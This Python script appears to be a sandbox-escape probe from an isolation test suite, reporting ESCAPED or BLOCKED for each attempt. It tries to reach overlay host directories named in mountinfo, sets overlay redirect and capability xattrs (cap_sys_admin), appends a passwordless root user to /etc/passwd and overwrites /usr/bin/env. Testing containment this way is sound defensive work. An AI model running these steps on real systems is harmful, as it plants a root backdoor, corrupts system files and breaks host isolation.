"""Attack: reach the overlay's host directories or corrupt the shared image. The kernel shows the overlay's
lowerdir/upperdir (host paths) in /proc/self/mountinfo; try to open them, set overlay xattrs (redirects
and metacopy can point the overlay at other host files), and rewrite image files (the lower layer is shared
by every sandbox: a change must stay a private copy-up)."""
import os
import re
import struct

escaped = False


def verdict(what, err):
    global escaped
    if err is None:
        escaped = True
        print(f"ESCAPED: {what}")
    else:
        print(f"BLOCKED: {what}: {err}")


info = open("/proc/self/mountinfo").read()
paths = set()
for opt in ("lowerdir", "upperdir", "workdir"):
    for m in re.finditer(opt + r"=([^,\s]+)", info):
        paths.update(p for p in m.group(1).split(":") if p)
print(f"info: overlay host paths named in mountinfo: {len(paths)}")
for p in sorted(paths):
    if os.path.exists(p) and not p.startswith(("/proc", "/dev")) and os.listdir(p):
        verdict(f"host overlay dir {p} is reachable", None)
    else:
        verdict(f"host overlay dir {p}", "not reachable from here")
os.makedirs("/tmp/ov", exist_ok=True)
for name, value in (("trusted.overlay.redirect", b"/../../../../etc"), ("trusted.overlay.metacopy", b""),
                    ("trusted.overlay.opaque", b"y"),
                    ("security.capability", struct.pack("<5I", 0x02000001, 1 << 21, 0, 0, 0))):  # cap_sys_admin+ep
    try:
        os.setxattr("/tmp/ov", name, value)
        verdict(f"setxattr {name}", None)
    except OSError as e:
        verdict(f"setxattr {name}", e.strerror)
# Rewrite image files: only this sandbox's copy may change (the host checks the lower layer).
with open("/etc/passwd", "a") as f:
    f.write("pwned::0:0::/:/bin/sh\n")
with open("/usr/bin/env", "r+b") as f:
    f.write(b"PWNED")
print("BLOCKED: image files rewritten here (copy-up); the host checks the shared layer")
print("VERDICT:", "ESCAPED" if escaped else "BLOCKED")
